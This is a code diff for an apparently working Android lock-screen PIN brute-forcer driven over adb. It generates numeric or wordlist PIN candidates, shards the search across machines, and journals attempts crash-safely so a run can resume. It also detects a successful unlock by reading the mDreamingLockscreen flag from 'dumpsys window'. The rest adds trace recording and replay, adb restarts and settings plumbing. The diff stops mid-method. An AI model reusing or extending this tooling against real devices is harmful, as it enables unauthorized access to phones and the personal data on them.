+    def wait_for_change(self, timeout=None):
+        """Wait for the next update from the server"""
+        with self.condition:
+            version = self.version
+            return self.condition.wait_for(lambda: self.version > version, timeout)
+
+    def _update(self, devices, connected=True):
+        with self.condition:
+            self.devices = dict(devices)
+            self.version += 1
+            if connected and not self.connected:
+                self.connections += 1
+            self.connected = connected
+            self.condition.notify_all()
+        for callback in self.listeners:
+            callback(dict(devices))
+
+    def _run(self):
+        while not self.stopped.is_set():
+            stream = self._native_stream() if self.client else self._subprocess_stream()
+            try:
+                for devices in stream:
+                    if self.stopped.is_set():
+                        break
+                    self._update(devices)
+            except (OSError, ValueError, EOFError, AdbProtocolError):
+                pass  # EOFError covers asyncio.IncompleteReadError
+            finally:
+                stream.close()
+            with self.condition:
+                self.attempts += 1
+                self.condition.notify_all()
+            # The server went away (e.g. kill-server) or never answered: forget
+            # its device list so nobody waits on stale state, then retry shortly
+            if not self.stopped.is_set():
+                self._update({}, connected=False)
+            self.stopped.wait(self.retry_delay)
+
+    def _subprocess_stream(self):
+        """Yield device lists from `adb track-devices` (hex-length framed)"""
+        self.metrics.increment('subprocess_spawns')
+        self.process = Popen(self.argv, stdout=PIPE, stderr=PIPE)
+        try:
+            stdout = self.process.stdout
+            while True:
+                header = stdout.read(4)
+                if len(header) < 4:
+                    return
+                payload = stdout.read(int(header, 16))
+                yield AdbProtocolClient.parse_devices(payload)
+        finally:
+            if self.process.poll() is None:
+                self.process.terminate()
+
+    def _native_stream(self):
+        """Yield device lists from the host:track-devices service"""
+        import asyncio
+        loop = asyncio.new_event_loop()
+        updates = self.client.track_devices()
+        try:
+            while True:
+                try:
+                    yield loop.run_until_complete(updates.__anext__())
+                except StopAsyncIteration:
+                    return
+        finally:
+            loop.run_until_complete(updates.aclose())
+            loop.close()
+
+
+ProbeResult = namedtuple('ProbeResult', ['unlocked', 'backend', 'bytes_read', 'latency'])
+
+# The keyguard flag check_if_unlocked has always keyed on
+LOCKSCREEN_FLAG = re.compile(rb'mDreamingLockscreen=(true|false)')
+
+
+class LockProbeBackend(abc.ABC):
+    """One way of reading the lock state; cheaper backends sort first.
+
+    read(checker) returns (unlocked, bytes_read), with unlocked None when the
+    backend could not find the flag on this device.
+    """
+
+    name = None
+    cost = 0
+
+    def available(self, checker):
+        return True
+
+    @abc.abstractmethod
+    def read(self, checker):
+        """Return (unlocked, bytes_read) for the device behind checker"""
+
+    @staticmethod
+    def parse(output):
+        match = LOCKSCREEN_FLAG.search(output)
+        if match is None:
+            return None
+        return match.group(1) == b'false'
+
+
+class GrepLockProbe(LockProbeBackend):
+    """Device-side grep that exits at the first match, so only one line crosses USB"""
+
+    name = 'grep'
+    cost = 1
+
+    def read(self, checker):
+        result = checker.shell_script(
+            "dumpsys window | grep -m 1 -o 'mDreamingLockscreen=[a-z]*'")
+        output = result.stdout.encode()
+        return self.parse(output), len(output)
+
+
+class PolicySectionLockProbe(LockProbeBackend):
+    """Only the window manager policy section instead of the full dump"""
+
+    name = 'policy-section'
+    cost = 2
+
+    def read(self, checker):
+        output = checker.shell_script('dumpsys window policy').stdout.encode()
+        return self.parse(output), len(output)
+
+
+class StreamingLockProbe(LockProbeBackend):
+    """Streams the full dump over the native client and hangs up at the flag"""
+
+    name = 'stream'
+    cost = 3
+
+    def available(self, checker):
+        return isinstance(innermost(checker.session), NativeAdbSession)
+
+    def read(self, checker):
+        import asyncio
+        import concurrent.futures
+        session = innermost(checker.session)  # e.g. under a RecordingSession
+        session.start()
+        started = time.perf_counter()
+        try:
+            unlocked, bytes_read, window = session.runner.call(
+                self._scan(session.client), session.timeout)
+        except (asyncio.IncompleteReadError, concurrent.futures.TimeoutError) as e:
+            raise ShellSessionError(f"lock state stream failed: {e}", sent=True)
+        session.metrics.increment('bytes_read', bytes_read)
+        if checker.recorder is not None:
+            # The stream bypasses the session, so trace what it saw; a replay
+            # answers the same probe through the full-dump backend
+            checker.recorder.write(TRACE_SHELL, started, time.perf_counter() - started,
+                                   0, 'dumpsys window', window)
+        return unlocked, bytes_read
+
+    async def _scan(self, client):
+        bytes_read, window = 0, b''
+        chunks = client.shell_stream('dumpsys window')
+        try:
+            async for packet_id, data in chunks:
+                if packet_id != SHELL_STDOUT:
+                    continue
+                bytes_read += len(data)
+                # Keep a little of the previous chunk in case the flag straddles two
+                window = window[-64:] + data
+                unlocked = self.parse(window)
+                if unlocked is not None:
+                    return unlocked, bytes_read, window
+        finally:
+            await chunks.aclose()
+        return None, bytes_read, window
+
+
+class FullDumpLockProbe(LockProbeBackend):
+    """The whole `dumpsys window` output; works everywhere, costs the most"""
+
+    name = 'full-dump'
+    cost = 4
+
+    def read(self, checker):
+        output = checker.shell_script('dumpsys window').stdout.encode()
+        return self.parse(output), len(output)
+
+
+LOCK_PROBE_BACKENDS = [GrepLockProbe, PolicySectionLockProbe,
+                       StreamingLockProbe, FullDumpLockProbe]
+
+
+class LockStateProbe:
+    """Reads the keyguard state through the cheapest backend that works.
+
+    Backends are tried in cost order until one finds the flag; that backend
+    is then used for every probe until it stops producing an answer. When
+    no backend finds the flag, the cheapest one is kept and read alone, so
+    a device without the flag costs one cheap round trip per probe. reset()
+    starts the selection over. Bytes transferred and latency are kept per
+    backend.
+    """
+
+    def __init__(self, backends=None):
+        backends = backends or [backend() for backend in LOCK_PROBE_BACKENDS]
+        self.backends = sorted(backends, key=lambda backend: backend.cost)
+        self.selected = None
+        self.unsupported = False  # no backend found the flag on this device
+        self.stats = {backend.name: {'probes': 0, 'bytes': 0, 'seconds': 0.0}
+                      for backend in self.backends}
+        self.last = None
+
+    def _read(self, checker, backend):
+        started = time.perf_counter()
+        try:
+            unlocked, bytes_read = backend.read(checker)
+        except (CalledProcessError, ShellSessionError, AdbProtocolError, OSError):
+            unlocked, bytes_read = None, 0
+        latency = time.perf_counter() - started
+        stats = self.stats[backend.name]
+        stats['probes'] += 1
+        stats['bytes'] += bytes_read
+        stats['seconds'] += latency
+        self.last = ProbeResult(unlocked, backend.name, bytes_read, latency)
+        return self.last
+
+    def reset(self):
+        """Forget the selected backend, e.g. after the device changed"""
+        self.selected = None
+        self.unsupported = False
+
+    def probe(self, checker):
+        """Return a ProbeResult; unlocked is None if no backend found the flag"""
+        failed = None
+        if self.selected is not None:
+            result = self._read(checker, self.selected)
+            if result.unlocked is not None or self.unsupported:
+                return result
+            failed, self.selected = self.selected, None  # just read; don't retry it
+        result = None
+        tried = [failed] if failed is not None else []
+        for backend in self.backends:
+            if backend is failed or not backend.available(checker):
+                continue
+            result = self._read(checker, backend)
+            if result.unlocked is not None:
+                self.selected = backend
+                return result
+            tried.append(backend)
+        self.selected = min(tried, key=lambda backend: backend.cost) if tried else None
+        self.unsupported = self.selected is not None
+        return result or self.last or ProbeResult(None, None, 0, 0.0)
+
+
+class DeviceStateCache:
+    """Device state that rarely changes, kept until a TTL runs out.
+
+    Holds screen geometry, orientation and the stay-on/timeout values we
+    last wrote, so gesture and wake paths skip redundant round trips.
+    invalidate() is the configuration-change hook; the device tracker calls
+    it whenever the connection state changes. Rotation is not a connection
+    change, so wake_screen() refreshes the orientation itself.
+    """
+
+    def __init__(self, ttl=300):
+        self.ttl = ttl
+        self.entries = {}
+        self.lock = threading.Lock()
+
+    def get(self, key, default=None):
+        with self.lock:
+            entry = self.entries.get(key)
+            if entry is None:
+                return default
+            value, stored_at = entry
+            if time.monotonic() - stored_at > self.ttl:
+                del self.entries[key]
+                return default
+            return value
+
+    def set(self, key, value):
+        with self.lock:
+            self.entries[key] = (value, time.monotonic())
+
+    def invalidate(self, *keys):
+        """Forget the given keys, or everything when called without keys"""
+        with self.lock:
+            if not keys:
+                self.entries.clear()
+            for key in keys:
+                self.entries.pop(key, None)
+
+
+class NumericCandidates:
+    """Zero-padded numeric PINs of a fixed length, generated lazily.
+
+    The candidate's index is its numeric value, so every range and shard of
+    the same length shares one index space (and one journal).
+    """
+
+    def __init__(self, length=4, start=0, end=None):
+        self.length = length
+        self.start = start
+        self.end = 10 ** length if end is None else end
+        if not 0 <= self.start <= self.end <= 10 ** length:
+            raise ValueError(f"range {self.start}-{self.end} does not fit {length}-digit PINs")
+        self.space = f"numeric:{length}"
+        self.total = self.end - self.start
+
+    def indices(self):
+        return range(self.start, self.end)
+
+    def lookup(self, index):
+        return str(index).zfill(self.length)
+
+    def __iter__(self):
+        for index in range(self.start, self.end):
+            yield index, str(index).zfill(self.length)
+
+
+class FileCandidates:
+    """Candidates read one line at a time from a file, never held in memory.
+
+    The index is the line number; blank and non-numeric lines are skipped
+    but still counted, so indices stay stable across runs.
+    """
+
+    def __init__(self, path):
+        self.path = path
+        self.space = f"file:{os.path.basename(path)}:{os.path.getsize(path)}"
+        self.total = None  # unknown without reading the whole file
+
+    def lookup(self, index):
+        for line_index, candidate in self._lines():
+            if line_index == index:
+                return candidate
+        return None
+
+    def _lines(self):
+        with open(self.path) as handle:
+            for index, line in enumerate(handle):
+                yield index, line.strip()
+
+    def __iter__(self):
+        for index, candidate in self._lines():
+            if candidate.isdigit():
+                yield index, candidate
+
+
+class ShardedCandidates:
+    """Every `count`-th candidate of a source, starting at shard `index`"""
+
+    def __init__(self, source, index, count):
+        if not 0 <= index < count:
+            raise ValueError(f"shard {index} is not in 0..{count - 1}")
+        self.source = source
+        self.index = index
+        self.count = count
+        self.space = source.space
+        self.total = None
+        self.selected = None
+        if hasattr(source, 'indices'):
+            # A range source can step straight to this shard's indices
+            indices = source.indices()
+            self.selected = indices[(index - indices.start) % count::count]
+            self.total = len(self.selected)
+
+    def lookup(self, index):
+        return self.source.lookup(index)
+
+    def __iter__(self):
+        if self.selected is not None:
+            for index in self.selected:
+                yield index, self.source.lookup(index)
+            return
+        for index, candidate in self.source:
+            if index % self.count == self.index:
+                yield index, candidate
+
+
+def build_candidates(length=4, start=0, end=None, wordlist=None, shard=None):
+    """Assemble the candidate pipeline; shard is an (index, count) pair"""
+    source = FileCandidates(wordlist) if wordlist else NumericCandidates(length, start, end)
+    if shard is not None:
+        source = ShardedCandidates(source, *shard)
+    return source
+
+
+class JournalError(Exception):
+    """Raised when a journal is unreadable or belongs to a different search"""
+
+
+ATTEMPT_FAILED, ATTEMPT_UNLOCKED = 1, 2
+
+
+class AttemptJournal:
+    """Crash-safe, append-only record of tried candidates.
+
+    Each attempt is a fixed-size little-endian record (candidate index,
+    outcome, CRC32), so a torn write at the tail is detected and dropped.
+    Records are buffered and fsynced in groups: every `batch_size` records,
+    after `max_delay` seconds, on sync() and immediately for an unlock.
+
+    Opening a journal replays it into a sparse bitmap of finished indices,
+    kept as fixed-size pages so memory and the snapshot grow with the work
+    done rather than with the largest index, writes that as a compact
+    snapshot next to the journal and truncates the log.
+    Both files contain nothing host-specific, so a run can be resumed (or
+    its finished work imported) on another machine. `space` identifies the
+    candidate space; a journal for a different space is refused.
+    """
+
+    MAGIC = b'PCJRNL1\n'
+    SNAPSHOT_MAGIC = b'PCSNAP2\n'
+    DENSE_SNAPSHOT_MAGIC = b'PCSNAP1\n'  # one bitmap from index 0; still read
+    RECORD = struct.Struct('<QBI')
+    PAGE_BITS = 4096
+    PAGE = struct.Struct('<Q')  # page number ahead of each page in a snapshot
+
+    def __init__(self, path, space, batch_size=16, max_delay=1.0):
+        self.path = path
+        self.snapshot_path = f"{path}.snapshot"
+        self.space = space
+        self.batch_size = batch_size
+        self.max_delay = max_delay
+        self.pages = {}  # page number -> bytearray bitmap of PAGE_BITS indices
+        self.unlocked = None
+        self.pending = []
+        self.last_sync = time.monotonic()
+        self.handle = None
+
+    @classmethod
+    def open(cls, path, space, **kwargs):
+        journal = cls(path, space, **kwargs)
+        journal._load_snapshot(journal.snapshot_path)
+        journal._replay(path)
+        journal.compact()
+        return journal
+
+    # -- reading ---------------------------------------------------------
+
+    def _read_header(self, handle, magic, path):
+        """Check the header against magic (or a tuple of them); returns the metadata"""
+        magics = magic if isinstance(magic, tuple) else (magic,)
+        found = handle.read(len(magics[0]))
+        if found not in magics:
+            raise JournalError(f"{path} is not a PIN checker journal")
+        try:
+            length, = struct.unpack('<H', handle.read(2))
+            meta = json.loads(handle.read(length).decode())
+        except (struct.error, ValueError) as e:  # ValueError covers JSON and UTF-8
+            raise JournalError(f"{path} has a damaged header: {e}")
+        if meta.get('space') != self.space:
+            raise JournalError(f"{path} records a different search "
+                               f"({meta.get('space')}, not {self.space})")
+        meta['magic'] = found
+        return meta
+
+    def _load_snapshot(self, path):
+        if not os.path.exists(path):
+            return False
+        with open(path, 'rb') as handle:
+            meta = self._read_header(handle, (self.SNAPSHOT_MAGIC, self.DENSE_SNAPSHOT_MAGIC),
+                                     path)
+            payload = handle.read()
+        if zlib.crc32(payload) != meta.get('crc'):
+            raise JournalError(f"{path} is corrupt")
+        if meta['magic'] == self.DENSE_SNAPSHOT_MAGIC:
+            page_size = self.PAGE_BITS // 8
+            for start in range(0, len(payload), page_size):
+                self._merge_page(start // page_size, payload[start:start + page_size])
+        else:
+            entry = self.PAGE.size + self.PAGE_BITS // 8
+            if len(payload) % entry:
+                raise JournalError(f"{path} is corrupt")
+            for start in range(0, len(payload), entry):
+                page, = self.PAGE.unpack_from(payload, start)
+                self._merge_page(page, payload[start + self.PAGE.size:start + entry])
+        if meta.get('unlocked') is not None:
+            self.unlocked = meta['unlocked']
+        return True
+
+    def _replay(self, path):
+        if not os.path.exists(path):
+            return False
+        # An empty log holds no records; everything before it is in the snapshot
+        if os.path.getsize(path) == 0:
+            return True
+        with open(path, 'rb') as handle:
+            self._read_header(handle, self.MAGIC, path)
+            while True:
+                data = handle.read(self.RECORD.size)
+                if len(data) < self.RECORD.size:
+                    break  # torn tail from a crash mid-write
+                index, outcome, crc = self.RECORD.unpack(data)
+                if zlib.crc32(data[:9]) != crc:
+                    break
+                self._apply(index, outcome)
+        return True
+
+    def import_from(self, path):
+        """Mark work recorded by another run (journal or snapshot) as done"""
+        if path.endswith('.snapshot'):
+            found = self._load_snapshot(path)
+        else:
+            found = self._load_snapshot(f"{path}.snapshot") | self._replay(path)
+        if not found:
+            raise JournalError(f"{path}: no such journal or snapshot")
+
+    def _merge_page(self, page, data):
+        if not any(data):
+            return
+        bits = self.pages.get(page)
+        if bits is None:
+            self.pages[page] = bytearray(data.ljust(self.PAGE_BITS // 8, b'\0'))
+            return
+        for position, byte in enumerate(data):
+            if byte:
+                bits[position] |= byte
+
+    def _apply(self, index, outcome):
+        page, bit = divmod(index, self.PAGE_BITS)
+        bits = self.pages.get(page)
+        if bits is None:
+            bits = self.pages[page] = bytearray(self.PAGE_BITS // 8)
+        bits[bit >> 3] |= 1 << (bit & 7)
+        if outcome == ATTEMPT_UNLOCKED:
+            self.unlocked = index
+
+    def is_done(self, index):
+        page, bit = divmod(index, self.PAGE_BITS)
+        bits = self.pages.get(page)
+        return bits is not None and bool(bits[bit >> 3] & (1 << (bit & 7)))
+
+    def completed(self):
+        """Number of candidates already tried"""
+        return sum(bin(int.from_bytes(bits, 'little')).count('1')
+                   for bits in self.pages.values())
+
+    # -- writing ---------------------------------------------------------
+
+    def _header(self, magic, **meta):
+        meta = json.dumps(dict(meta, space=self.space)).encode()
+        return magic + struct.pack('<H', len(meta)) + meta
+
+    def compact(self):
+        """Fold everything recorded so far into the snapshot and reset the log"""
+        self.sync()
+        payload = b''.join(self.PAGE.pack(page) + bytes(self.pages[page])
+                           for page in sorted(self.pages))
+        temp_path = f"{self.snapshot_path}.tmp"
+        with open(temp_path, 'wb') as handle:
+            handle.write(self._header(self.SNAPSHOT_MAGIC, unlocked=self.unlocked,
+                                      crc=zlib.crc32(payload)))
+            handle.write(payload)
+            handle.flush()
+            os.fsync(handle.fileno())
+        os.replace(temp_path, self.snapshot_path)
+
+        # Replaying the old log over the new snapshot is harmless, so a crash
+        # between these two steps loses nothing. The fresh log is swapped in
+        # whole, so there is never a truncated log on disk either
+        if self.handle is not None:
+            self.handle.close()
+            self.handle = None
+        temp_path = f"{self.path}.tmp"
+        with open(temp_path, 'wb') as handle:
+            handle.write(self._header(self.MAGIC))
+            handle.flush()
+            os.fsync(handle.fileno())
+        os.replace(temp_path, self.path)
+        self.handle = open(self.path, 'ab')
+
+    def record(self, index, outcome):
+        """Log an attempt; it becomes durable at the next group commit"""
+        self._apply(index, outcome)
+        data = struct.pack('<QB', index, outcome)
+        self.pending.append(data + struct.pack('<I', zlib.crc32(data)))
+        if (outcome == ATTEMPT_UNLOCKED or len(self.pending) >= self.batch_size
+                or time.monotonic() - self.last_sync >= self.max_delay):
+            self.sync()
+
+    def sync(self):
+        """Write and fsync every pending record in one go"""
+        if self.pending and self.handle is not None:
+            self.handle.write(b''.join(self.pending))
+            self.handle.flush()
+            os.fsync(self.handle.fileno())
+            self.pending = []
+        self.last_sync = time.monotonic()
+
+    def close(self):
+        if self.handle is not None:
+            self.sync()
+            self.handle.close()
+            self.handle = None
+
+
+class SessionWrapper:
+    """Base for objects that sit in front of a shell session and delegate to it"""
+
+    def __init__(self, inner):
+        self.inner = inner
+
+    @property
+    def metrics(self):
+        return self.inner.metrics
+
+    @metrics.setter
+    def metrics(self, metrics):
+        self.inner.metrics = metrics
+
+    def start(self):
+        self.inner.start()
+
+    def is_alive(self):
+        return self.inner.is_alive()
+
+    def close(self):
+        self.inner.close()
+
+    def execute(self, command, timeout=None):
+        return self.inner.execute(command, timeout)
+
+
+def innermost(session):
+    """The real session underneath any SessionWrappers"""
+    while isinstance(session, SessionWrapper):
+        session = session.inner
+    return session
+
+
+TRACE_SHELL, TRACE_HOST, TRACE_DEVICES = range(3)
+
+TraceRecord = namedtuple('TraceRecord', ['kind', 'offset', 'duration', 'returncode',
+                                         'command', 'output'])
+
+
+class TraceWriter:
+    """Writes a gzip-compressed binary trace of a run's device interaction.
+
+    Each record stores its kind (device shell command, host adb command or
+    device-list update), start offset and duration in seconds, exit code,
+    and the command and output bytes.
+    """
+
+    MAGIC = b'PCTRACE1'
+    RECORD = struct.Struct('<BddiII')
+
+    def __init__(self, path, meta=None):
+        self.handle = gzip.open(path, 'wb')
+        header = json.dumps(dict(meta or {}, started_at=time.time())).encode()
+        self.handle.write(self.MAGIC + struct.pack('<I', len(header)) + header)
+        self.started = time.perf_counter()
+        self.lock = threading.Lock()
+
+    def write(self, kind, started, duration, returncode, command, output):
+        command = command.encode()
+        output = output.encode() if isinstance(output, str) else output
+        with self.lock:
+            if self.handle is None:
+                return
+            self.handle.write(self.RECORD.pack(kind, started - self.started, duration,
+                                               returncode, len(command), len(output)))
+            self.handle.write(command)
+            self.handle.write(output)
+
+    def close(self):
+        with self.lock:
+            if self.handle is not None:
+                self.handle.close()
+                self.handle = None
+
+
+def read_trace(path):
+    """Return (meta, [TraceRecord, ...]) from a trace file"""
+    with gzip.open(path, 'rb') as handle:
+        if handle.read(len(TraceWriter.MAGIC)) != TraceWriter.MAGIC:
+            raise ValueError(f"{path} is not a PIN checker trace")
+        try:
+            length, = struct.unpack('<I', handle.read(4))
+        except struct.error:
+            raise ValueError(f"{path} has a damaged header")
+        meta = json.loads(handle.read(length).decode())
+        records = []
+        while True:
+            header = handle.read(TraceWriter.RECORD.size)
+            if len(header) < TraceWriter.RECORD.size:
+                break
+            kind, offset, duration, returncode, command_length, output_length = \
+                TraceWriter.RECORD.unpack(header)
+            command = handle.read(command_length).decode(errors='replace')
+            output = handle.read(output_length).decode(errors='replace')
+            records.append(TraceRecord(kind, offset, duration, returncode, command, output))
+    return meta, records
+
+
+class RecordingSession(SessionWrapper):
+    """Passes commands through to a real session and traces each one"""
+
+    def __init__(self, inner, writer):
+        super().__init__(inner)
+        self.writer = writer
+
+    def execute(self, command, timeout=None):
+        started = time.perf_counter()
+        returncode, output = self.inner.execute(command, timeout)
+        self.writer.write(TRACE_SHELL, started, time.perf_counter() - started,
+                          returncode, command, output)
+        return returncode, output
+
+
+class TraceReplayer:
+    """Answers commands from a recorded trace instead of a device.
+
+    Commands are matched in recorded order; a command that does not come
+    next (say, a newer version probes differently) is answered from the
+    next recorded occurrence of the same command, cycling if need be.
+    Recorded durations are slept, divided by `speed`; speed 0 replays with
+    no delays at all.
+
+    `clock` follows the recorded timeline through the in-order matches, so
+    device-list updates can be handed out when the replay reaches them.
+    """
+
+    def __init__(self, records, speed=1.0):
+        self.speed = speed
+        self.queues = {TRACE_SHELL: [], TRACE_HOST: []}
+        self.by_command = {}
+        # [(offset, devices, connected), ...] in recorded order; a non-zero
+        # returncode marks the empty list published when a server went away
+        self.device_lists = []
+        for record in records:
+            if record.kind == TRACE_DEVICES:
+                self.device_lists.append((record.offset, json.loads(record.output),
+                                          record.returncode == 0))
+                continue
+            self.queues[record.kind].append(record)
+            self.by_command.setdefault((record.kind, record.command), []).append(record)
+        self.positions = {TRACE_SHELL: 0, TRACE_HOST: 0}
+        self.next_devices = 0
+        self.clock = 0.0
+        self.cycles = {}
+        self.replayed = 0
+        self.misses = 0
+        self.lock = threading.Lock()
+
+    def answer(self, kind, command):
+        """Return the recorded (returncode, output) for a command"""
+        with self.lock:
+            queue_ = self.queues[kind]
+            position = self.positions[kind]
+            if position < len(queue_) and queue_[position].command == command:
+                record = queue_[position]
+                self.positions[kind] = position + 1
+                self.clock = max(self.clock, record.offset + record.duration)
+            else:
+                matches = self.by_command.get((kind, command))
+                if not matches:
+                    self.misses += 1
+                    return 127, f"replay: no recording of {command}\n"
+                cycle = self.cycles.get((kind, command), 0)
+                record = matches[cycle % len(matches)]
+                self.cycles[(kind, command)] = cycle + 1
+            self.replayed += 1
+        if self.speed > 0:
+            time.sleep(record.duration / self.speed)
+        return record.returncode, record.output
+
+    def due_devices(self):
+        """Pop the (devices, connected) updates recorded before the current clock"""
+        with self.lock:
+            due = []
+            while (self.next_devices < len(self.device_lists)
+                   and self.device_lists[self.next_devices][0] <= self.clock):
+                due.append(self.device_lists[self.next_devices][1:])
+                self.next_devices += 1
+            return due
+
+    def advance_devices(self):
+        """Pop the next (devices, connected) update, sleeping the recorded gap.
+
+        Returns None once the trace has no more device lists.
+        """
+        with self.lock:
+            if self.next_devices >= len(self.device_lists):
+                return None
+            offset, devices, connected = self.device_lists[self.next_devices]
+            self.next_devices += 1
+            gap = offset - self.clock
+            self.clock = max(self.clock, offset)
+        if self.speed > 0 and gap > 0:
+            time.sleep(gap / self.speed)
+        return devices, connected
+
+
+class ReplaySession:
+    """Shell-session interface backed by a TraceReplayer"""
+
+    def __init__(self, replayer, metrics=None):
+        self.replayer = replayer
+        self.metrics = metrics or Metrics()
+
+    def start(self):
+        pass
+
+    def is_alive(self):
+        return True
+
+    def close(self):
+        pass
+
+    def execute(self, command, timeout=None):
+        returncode, output = self.replayer.answer(TRACE_SHELL, command)
+        self.metrics.increment('bytes_read', len(output.encode()))
+        return returncode, output
+
+
+class ReplayDeviceTracker(DeviceTracker):
+    """Steps through the device lists of a trace, without any adb server.
+
+    Lists recorded before the replay's clock are published as soon as
+    anyone looks; a waiter whose condition does not hold yet pulls the next
+    recorded list instead of sleeping out its timeout, and gets False once
+    the trace has none left.
+    """
+
+    def __init__(self, replayer):
+        super().__init__()
+        self.replayer = replayer
+
+    def start(self, timeout=5):
+        if self.version == 0 and not self.replayer.device_lists:
+            self._update({'replay': 'device'})
+        return self.wait_for(lambda devices: self.connected, timeout)
+
+    def wait_for(self, predicate, timeout=None, min_version=0, min_connections=0):
+        for devices, connected in self.replayer.due_devices():
+            self._update(devices, connected)
+        while not (self.version >= min_version and self.connections >= min_connections
+                   and predicate(self.snapshot())):
+            update = self.replayer.advance_devices()
+            if update is None:
+                return False
+            self._update(*update)
+        return True
+
+    def wait_for_change(self, timeout=None):
+        return self.wait_for(lambda devices: True, timeout, min_version=self.version + 1)
+
+    def stop(self):
+        pass
+
+
+SESSION_BACKENDS = {
+    'session': AdbShellSession,
+    'subprocess': SubprocessShell,
+    'native': NativeAdbSession,
+}
+
 
 class PINChecker:
-    def __init__(self):
-        self.console = Console()
+    def __init__(self, backend='session', metrics=None, session=None, tracker=None,
+                 log_level=INFO, log_file=None, headless=False, status_interval=None):
+        # Headless runs keep stdout for JSON status lines; logs go to stderr
+        self.headless = headless
+        self.status_interval = status_interval
+        self.console = make_console(stderr=headless, plain=headless)
         self.start_time = None
         self.attempts = 0
         self.width = 1080
         self.height = 2400
-        self.debug_mode = True  # Enable debug mode
+        sinks = [ConsoleLogSink(self.console)]
+        if log_file:
+            sinks.append(JsonLinesLogSink(log_file))
+        self.logger = AsyncLogger(sinks, level=log_level)
+        self.journal = None  # an AttemptJournal makes check_all_pins resumable
+        self.outcome = None  # how the last check_all_pins ended
+        self.time_scale = 1.0  # multiplies host-side pauses; replays shrink it
+        self.recorder = None
+        self.replayer = None
+        self.status_stream = None  # headless status lines; None means stdout
+        self.metrics = metrics or Metrics()
+        if session is None:
+            session = SESSION_BACKENDS[backend](metrics=self.metrics)
+        session.metrics = self.metrics  # an injected session reports here too
+        self.session = session
+        if tracker is None:
+            tracker = DeviceTracker(client=getattr(session, 'client', None), metrics=self.metrics)
+        tracker.metrics = self.metrics
+        self.tracker = tracker
+        self.lock_probe = LockStateProbe()
+        self.state_cache = DeviceStateCache()
+        # Any connection change may mean a different device or a reboot
+        self.tracker.add_listener(self.forget_device_state)
+
+    def forget_device_state(self, devices=None):
+        """Drop everything learned about the device; a tracker listener"""
+        self.state_cache.invalidate()
+        self.lock_probe.reset()
+
+    @property
+    def debug_mode(self):
+        return self.logger.enabled_for(DEBUG)
+
+    @debug_mode.setter
+    def debug_mode(self, enabled):
+        self.logger.level = DEBUG if enabled else max(self.logger.level, INFO)
 
     def debug(self, message):
-        """Print debug messages if debug mode is enabled"""
-        if self.debug_mode:
-            self.log(f"[DEBUG] {message}", style="cyan")
+        """Log a debug message; pass a callable to defer building it"""
+        self.logger.log(DEBUG, message, style="cyan")
+
+    def log(self, message, style="", level=None):
+        """Log a message with timestamp; the level defaults from the style"""
+        self.logger.log(STYLE_LEVELS.get(style, INFO) if level is None else level,
+                        message, style)
+
+    def panel(self, text):
+        """Print a boxed message once the log messages before it are out"""
+        self.logger.flush()
+        print_panel(self.console, text)
+
+    def pause(self, seconds):
+        """Sleep between device actions, scaled by time_scale"""
+        if self.time_scale > 0:
+            time.sleep(seconds * self.time_scale)
+
+    def record_to(self, path, meta=None):
+        """Trace every device and host adb command of this checker to path"""
+        self.recorder = TraceWriter(path, meta)
+        self.session = RecordingSession(self.session, self.recorder)
+        recorder, tracker = self.recorder, self.tracker
+        self.tracker.add_listener(lambda devices: recorder.write(
+            TRACE_DEVICES, time.perf_counter(), 0.0, 0 if tracker.connected else 1,
+            '', json.dumps(devices)))
 
-    def log(self, message, style=""):
-        """Log a message with timestamp"""
-        timestamp = datetime.now().strftime("%H:%M:%S")
-        self.console.print(f"[dim]{timestamp}[/dim] {message}", style=style)
+    def replay_from(self, path, speed=1.0):
+        """Answer every command from a recorded trace instead of a device"""
+        meta, records = read_trace(path)
+        self.replayer = TraceReplayer(records, speed)
+        self.session = ReplaySession(self.replayer, self.metrics)
+        self.tracker = ReplayDeviceTracker(self.replayer)
+        self.tracker.add_listener(self.forget_device_state)
+        self.time_scale = 1.0 / speed if speed > 0 else 0.0
+        return meta
+
+    def run_host(self, command, check=False):
+        """Run a host-side adb command, returning a CompletedProcess with text output"""
+        if self.replayer is not None:
+            returncode, output = self.replayer.answer(TRACE_HOST, ' '.join(command))
+        else:
+            self.metrics.increment('subprocess_spawns')
+            started = time.perf_counter()
+            result = run(command, stdout=PIPE, stderr=STDOUT, text=True)
+            returncode, output = result.returncode, result.stdout
+            if self.recorder is not None:
+                self.recorder.write(TRACE_HOST, started, time.perf_counter() - started,
+                                    returncode, ' '.join(command), output)
+        result = CompletedProcess(command, returncode, stdout=output)
+        if check:
+            result.check_returncode()
+        return result
+
+    def shell(self, *args, check=False):
+        """Run a command on the device through the persistent shell session"""
+        return self.shell_script(quote_command(args), check=check, argv=['adb', 'shell', *args])
+
+    def shell_script(self, script, check=False, argv=None):
+        """Run a shell script string on the device in a single round trip"""
+        argv = argv or ['adb', 'shell', script]
+        try:
+            with self.metrics.timer('device_command'):
+                if not self.session.is_alive():
+                    self.session.start()
+                returncode, output = self.session.execute(script)
+        except (ShellSessionError, OSError) as e:
+            self.metrics.increment('device_command_errors')
+            raise CalledProcessError(255, argv, output=str(e))
+        self.metrics.increment('device_commands')
+        result = CompletedProcess(argv, returncode, stdout=output)
+        if check:
+            result.check_returncode()
+        return result
+
+    @timed('adb_restart')
+    def restart_adb_server(self, timeout=10):
+        """Restart the local adb server, dropping the shell session with it.
+
+        Returns True once the new server reports a usable device, False on
+        timeout or if the tracker is unavailable.
+        """
+        self.session.close()
+        self.state_cache.invalidate()
+        connections = self.tracker.connections
+        self.run_host(['adb', 'kill-server'], check=True)
+        self.run_host(['adb', 'start-server'], check=True)
+        self.tracker.start(timeout=0)  # make sure it is running; it may not have reconnected yet
+        # Until the tracker reaches the new server, its snapshot may still
+        # describe the old one
+        if not self.tracker.wait_for(lambda devices: True, timeout=timeout,
+                                     min_connections=connections + 1):
+            self.debug("Device tracker did not reach the restarted adb server")
+            return False
+        return self.tracker.wait_for_state('device', timeout=timeout)
+
+    def connected_devices(self):
+        """Return {serial: state} from the tracker, or None if it is unavailable"""
+        if not self.tracker.start():
+            self.debug("Device tracker unavailable")
+            return None
+        return self.tracker.snapshot()
+
+    def apply_settings(self, batch):
+        """Apply a SettingsBatch, restarting adb only if needed.
+
+        Ordinary writes take one round trip and writes that may drop the
+        shell a second. Returns the per-key results, or None if the ordinary
+        writes could not be sent or the adb restart they needed failed.
+        """
+        if not batch:
+            return OrderedDict()
+        self.debug(lambda: f"Applying {len(batch)} settings as a batch")
+        output, disconnected = '', False
+        # Writes that may re-enumerate the device get their own round trip,
+        # so losing the shell to them cannot take the other results with it
